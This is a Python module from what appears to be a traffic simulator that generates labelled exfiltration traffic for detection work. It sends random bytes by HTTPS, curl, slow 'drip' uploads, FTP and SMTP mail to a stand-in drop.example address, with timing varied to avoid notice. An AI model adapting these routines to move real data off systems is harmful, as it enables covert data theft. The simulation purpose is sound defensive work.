# SPDX-License-Identifier: GPL-3.0-or-later
"""Files of random bytes, like archives, that leave: in chunks by HTTPS, by FTP, by mail, or in drips too small to be
noticed. They go to servers of our own or to those that everybody uses.

Varied per session: sizes of files and chunks, pauses, connections a file, encodings, clients."""
import base64
import contextlib
import ftplib
import smtplib
import time

from .. import clients
from ..behaviour import threat
from . import c2, c2_web
from .spam import mail_session

TYPES = ("application/octet-stream", "application/zip", "multipart/form-data; boundary=----x1",
         "application/x-7z-compressed", "text/plain")


def taker(me, kind, share, tls):
    """An ordinary web server with an application, or one of ours that thanks for everything."""
    ordinary = [service for service in me.services(kind) if service.facts.get("app")]
    if ordinary and me.rng.random() < share:
        return me.rng.choice(ordinary), ("/upload", "/submit", "/api")
    thanks = me.rng.choice((0, 2, 40, 300))
    made = c2_web.serve(me, lambda *request: (200, request[-1].randbytes(thanks)) if thanks else (204, b""), tls)
    return made, me.rng.choice((("/upload",), ("/u/0", "/u/1"), ("/drive/v3/files", "/upload/drive"), ("/api/files",)))


@threat("exfil_https", family="exfiltration", seconds=(100, 220))
def exfil_https(me):
    rng = me.rng
    service, paths = taker(me, "web", 0.4, True)
    style = clients.style(me, named=False)
    chunk, kind = rng.choice((15_000, 60_000, 200_000, 500_000)), rng.choice(TYPES)
    by_curl, armour = rng.random() < 0.25, rng.random() < 0.2
    each = rng.choice((1, 1, 2, 4))  # chunks a connection
    pause = min(6.0, me.left() / rng.uniform(40, 80))
    while not me.over():
        left = c2.size(rng, 500_000, 0.9, 3_000_000)  # of one file
        while left > 0 and not me.over():
            with contextlib.suppress(*c2.BROKEN):
                if by_curl:
                    left -= _curl(me, service, rng.choice(paths), min(left, c2.size(rng, chunk, 0.3, 700_000)))
                else:
                    with clients.http(me, service, style=style, timeout=20) as web:
                        for _ in range(each):
                            data = rng.randbytes(min(max(left, 200), c2.size(rng, chunk, 0.3, 700_000)))
                            left -= len(data)
                            web.ask("POST" if rng.random() < 0.8 else "PUT", rng.choice(paths),
                                    base64.b64encode(data) if armour else data, {"Content-Type": kind})
                            if left <= 0 or not web.open:
                                break
                            me.sleep(rng.expovariate(1 / pause) / 2)
            me.sleep(rng.uniform(0.3, 1.7) * pause)
        me.sleep(rng.uniform(0.5, 4))


def _curl(me, service, path, count):
    file = me.folder / "part"
    file.write_bytes(me.rng.randbytes(count))
    with me.talk(service):
        me.run([*clients.curl(me, service, "tool"), "-o", "/dev/null",
                *me.rng.choice((["--data-binary", f"@{file}"], ["-F", f"f=@{file}"])),
                clients.url(me, service, path, named=False)], timeout=25)
    return count


@threat("exfil_drip", family="exfiltration", seconds=(130, 240))
def exfil_drip(me):
    rng = me.rng
    way = rng.choice(("http", "https", "https", "tcp"))
    median, spread = rng.choice((90, 250, 700, 1400)), rng.choice((0.1, 0.5))
    mean = c2.pace(me, 26, 2, 8)
    regular = rng.random() < 0.5

    def thank(talk):
        while talk.recv(65536):
            talk.sendall(b"\0\1")

    if way == "tcp":
        service = c2.server(me, thank, c2.ODD if rng.random() < 0.5 else c2.COMMON)
        style = None
    else:
        service, paths = taker(me, "web" if way == "https" else "webplain", 0.35, way == "https")
        style = clients.style(me, named=False)
    while not me.over():
        data = rng.randbytes(c2.size(rng, median, spread, 6000))
        with contextlib.suppress(*c2.BROKEN):
            if way == "tcp":
                with me.connect(service) as talk:
                    talk.sendall(data)
                    talk.recv(2)
            else:
                with clients.http(me, service, style=style) as web:
                    if rng.random() < 0.3:
                        web.ask("GET", f"{rng.choice(paths)}?d={base64.urlsafe_b64encode(data[:1200]).decode()}")
                    else:
                        web.ask("POST", rng.choice(paths), data, {"Content-Type": "application/octet-stream"})
        me.sleep(mean * rng.uniform(0.9, 1.1) if regular else min(25, mean * rng.expovariate(1)))


@threat("exfil_ftp", family="exfiltration", needs=("ftp",), seconds=(90, 200))
def exfil_ftp(me):
    """Each upload is a flow of its own beside the one of commands."""
    rng = me.rng
    median, by_curl = rng.choice((20_000, 100_000, 400_000)), rng.random() < 0.3
    pause = min(4.0, me.left() / rng.uniform(30, 60))
    while not me.over():
        ftp = me.choose("ftp")
        facts, names = ftp.facts, ("db.7z.{:03}", "part{}.zip", "{}.rar", "docs-{}.tar.gz", "{}.tmp")
        with me.talk(ftp), me.talk(ftp, ports=facts["passive"]), contextlib.suppress(*c2.BROKEN, ftplib.Error):
            name = rng.choice(names)
            if by_curl:
                file = me.folder / "part"
                file.write_bytes(rng.randbytes(c2.size(rng, median, 0.7, 1_500_000)))
                me.run(["curl", "-q", "-s", "--max-time", 25, "--user", f"{facts['user']}:{facts['password']}", "-T", file,
                        f"ftp://{ftp.host.address}:{ftp.port}/{name.format(rng.randrange(999))}"])
            else:
                me.use("python-ftplib")
                with ftplib.FTP(timeout=12) as session:
                    session.connect(ftp.host.address, ftp.port)
                    session.login(facts["user"], facts["password"])
                    for number in range(rng.randrange(1, 7)):
                        data = rng.randbytes(c2.size(rng, median, 0.7, 1_500_000))
                        session.voidcmd("TYPE I")
                        with session.transfercmd(f"STOR {name.format(number)}") as talk:
                            talk.sendall(data)
                        session.voidresp()
                        me.sleep(rng.expovariate(1 / pause) / 2)
        me.sleep(rng.uniform(0.4, 1.6) * pause)


@threat("exfil_smtp", family="exfiltration", needs=("smtp",), seconds=(100, 220))
def exfil_smtp(me):
    rng = me.rng
    median, each = rng.choice((20_000, 80_000, 300_000)), rng.choice((1, 1, 2))
    pause, to = min(7.0, me.left() / rng.uniform(26, 45)), f"{rng.randbytes(4).hex()}@drop.example"
    while not me.over():
        with contextlib.suppress(*c2.BROKEN, smtplib.SMTPException), \
                mail_session(me, me.choose("smtp")) as (session, sender):
            for number in range(each):
                data = base64.encodebytes(rng.randbytes(c2.size(rng, median, 0.6, 1_200_000))).decode()
                text = (f"From: {sender}\r\nTo: {to}\r\n"
                        f"Subject: {rng.choice(('scan', 'report', 'Re: files', ''))} {number}\r\n"
                        f"Date: {time.strftime('%a, %d %b %Y %H:%M:%S +0000', time.gmtime())}\r\nMIME-Version: 1.0\r\n"
                        f"Content-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n\r\n{data}")
                session.sendmail(sender, [to], text)
        me.sleep(rng.uniform(0.4, 1.6) * pause)


def _sent(least):
    return lambda flow: flow.protocol == 6 and min(flow.packets) >= 4 and flow.bytes[0] > least


EVIDENCE = {
    "exfil_https": ("uploads of 5 kB or more", _sent(5000), 15),
    "exfil_drip": ("answered small uploads", _sent(300), 15),
    "exfil_ftp": ("uploads or sessions of commands", _sent(250), 15),
    "exfil_smtp": ("mails of 10 kB or more", _sent(10_000), 12),
}
